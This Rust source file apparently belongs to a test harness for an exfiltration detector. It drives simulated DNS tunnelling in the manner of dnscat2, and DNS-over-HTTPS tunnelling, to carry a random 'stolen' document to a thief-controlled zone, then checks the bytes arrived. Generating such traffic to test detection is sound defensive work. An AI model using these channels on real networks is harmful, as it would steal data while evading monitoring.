//! Command channels that carry a document in names: straight to resolvers, and inside HTTPS.

use std::fs;
use std::net::IpAddr;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::wait_for_tcp_listener;

use crate::random::Random;
use crate::scene::{DOH_PORT, Outcome, Scene, Target, ensure_arrived, resolver};
use crate::sites::THIEF_NAME_SERVER;

const START: Duration = Duration::from_secs(15);
/// Of data in one name of at most 253 bytes, beside the zone and the message's number.
const LARGEST_CHUNK: u64 = 80;

/// A channel in the manner of dnscat2: any type that carries an answer, and polling.
pub(crate) fn dnscat(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
    let got = scene.inbox("got");
    let zone = &scene.thief_zone;
    let serve = ["serve", THIEF_NAME_SERVER, &got.display().to_string(), zone].map(str::to_owned);
    let server = scene.start_script(scene.internet(), "dnscat.py", &serve)?;
    server.wait_for_line("ready", START)?;
    let kinds = *random.pick(&["TXT", "CNAME", "MX", "A", "TXT,CNAME,MX"]);
    let chunk = random.between(20, LARGEST_CHUNK);
    let messages = random.between(10, 150);
    let document = random.document((chunk * messages) as usize);
    let polls = random.between(0, 100);
    let pause_secs = random.log_uniform(0.01, 0.15);
    let file = scene.document("stolen", &document)?;
    let [chunk, polls, pause, seed] = [
        chunk.to_string(),
        polls.to_string(),
        pause_secs.to_string(),
        random.between(0, 1 << 30).to_string(),
    ];
    let send =
        ["send", through, zone, &file, &chunk, &polls, &pause, kinds, &seed].map(str::to_owned);
    scene.run_script("dnscat.py", &send)?;
    let arrived = fs::read(&got).context("nothing arrived")?;
    ensure!(arrived == document, "{} bytes were sent and other ones arrived", document.len());
    let target = Target { host: through.to_owned(), address: address(through)? };
    let notes = format!(
        "{} bytes in {kinds}, {polls} polls, {pause} s apart, through {through}",
        document.len()
    );
    Ok(Outcome::stolen(scene.culprit(&target, "udp", Some(53))?, document.len(), notes))
}

/// The same inside HTTP/2 to a resolver over HTTPS, as the tunnel's user sees none of it in clear.
pub(crate) fn over_https(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let log = scene.scratch.join("names.log").display().to_string();
    let serve = ["serve".to_owned(), DOH_PORT.to_string(), log.clone()];
    let _server = scene.start_script(scene.internet(), "doh.py", &serve)?;
    wait_for_tcp_listener(scene.internet(), DOH_PORT, START)?;
    let chunk = random.between(40, LARGEST_CHUNK);
    let messages = random.between(20, 250);
    let document = random.document((chunk * messages) as usize);
    let file = scene.document("stolen", &document)?;
    let polls = random.between(0, 80);
    let [chunk, polls, pause, seed] = [
        chunk.to_string(),
        polls.to_string(),
        random.log_uniform(0.002, 0.1).to_string(),
        random.between(0, 1 << 30).to_string(),
    ];
    let method = *random.pick(&["get", "post", "post"]);
    let pad = *random.pick(&["0", "0", "128"]);
    let tunnel = [
        "tunnel",
        &target.host,
        &scene.thief_zone,
        &file,
        &chunk,
        &polls,
        &pause,
        method,
        pad,
        &seed,
    ]
    .map(str::to_owned);
    scene.run_script("doh.py", &tunnel)?;
    let names = fs::read_to_string(&log).context("nobody asked the resolver")?;
    let digits: usize = names.lines().map(|name| digits_of(name, &scene.thief_zone)).sum();
    // Eight bytes of each name are its number and place.
    ensure_arrived(document.len(), digits / 2 - 8 * names.lines().count())?;
    let notes = format!(
        "{} bytes by {method}, {polls} polls, {pause} s apart, to {}",
        document.len(),
        target.host
    );
    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(443))?, document.len(), notes))
}

fn digits_of(name: &str, zone: &str) -> usize {
    name.strip_suffix(zone).map_or(0, |labels| labels.bytes().filter(u8::is_ascii_hexdigit).count())
}

fn address(text: &str) -> Result<IpAddr> {
    text.parse().with_context(|| format!("{text} is no address"))
}
